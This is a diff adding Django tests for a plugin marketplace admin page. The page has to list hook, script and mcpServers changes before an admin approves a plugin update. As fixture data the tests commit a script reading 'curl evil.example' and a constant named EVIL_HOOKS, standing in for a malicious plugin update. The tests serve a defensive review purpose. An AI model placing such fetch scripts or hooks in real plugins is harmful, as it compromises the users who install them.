@@ -68,6 +68,36 @@ def test_a_changed_hook_waits_for_an_admin_and_the_catalogue_keeps_the_approved_
     assert (event.plugin, event.actor.is_superuser, event.extra["after"]) == ("ops-kit", True, ops.own_hash)
 
 
+def test_the_admin_reads_what_changed_before_approving_it(market, admin_client):
+    ops = Plugin.objects.get(name="ops-kit")
+    assert ops.approved_own_content == ops.own_content and ops.own_content["files"][0][0] == "hooks/hooks.json"
+    market.repo.commit({
+        "plugins/ops-kit/hooks/hooks.json": EVIL_HOOKS, "plugins/ops-kit/scripts/fetch.sh": "curl evil.example\n",
+        ".claude-plugin/marketplace.json": catalog(
+            plugin_entry("ops-kit", version="1.0.0", mcpServers={"tracker": {"command": "npx", "args": ["tracker"]}}),
+            plugin_entry("docs-kit", version="1.0.0"), name="acme-skills"),
+    })
+    sync_marketplace(market.pk)
+    page = admin_client.get(f"/admin/marketplace/plugin/{ops.pk}/change/").content.decode()
+    shown = page.split("What changed besides skills", 1)[1].split("</ul>", 1)[0]
+    assert ("<li>Added scripts/fetch.sh</li>" in shown and "<li>Changed hooks/hooks.json</li>" in shown
+            and "<li>Changed &quot;mcpServers&quot; in its marketplace.json entry</li>" in shown), shown
+    assert shown.count("<li>") == 3  # the version, description and README are not what it installs
+    admin_client.post("/admin/marketplace/plugin/", {"action": "approve_content", "_selected_action": [ops.pk]})
+    ops.refresh_from_db()
+    assert ops.approved_own_content == ops.own_content and "scripts/fetch.sh" in json.dumps(ops.approved_own_content)
+    assert "Nothing awaits approval." in admin_client.get(f"/admin/marketplace/plugin/{ops.pk}/change/").content.decode()
+
+
+def test_content_approved_before_it_was_kept_says_so(market, admin_client):
+    ops = Plugin.objects.get(name="ops-kit")
+    market.repo.commit({"plugins/ops-kit/hooks/hooks.json": EVIL_HOOKS})
+    sync_marketplace(market.pk)
+    Plugin.objects.filter(pk=ops.pk).update(approved_own_content={})  # as migration 0025 found it
+    page = admin_client.get(f"/admin/marketplace/plugin/{ops.pk}/change/").content.decode()
+    assert "What was approved was not recorded. Its files now: hooks/hooks.json." in page
+
+
 def test_a_skill_approved_does_not_approve_the_hook_changed_with_it(market, client, people, admin_client):
     ops = Plugin.objects.get(name="ops-kit")
     approved = ops.commit
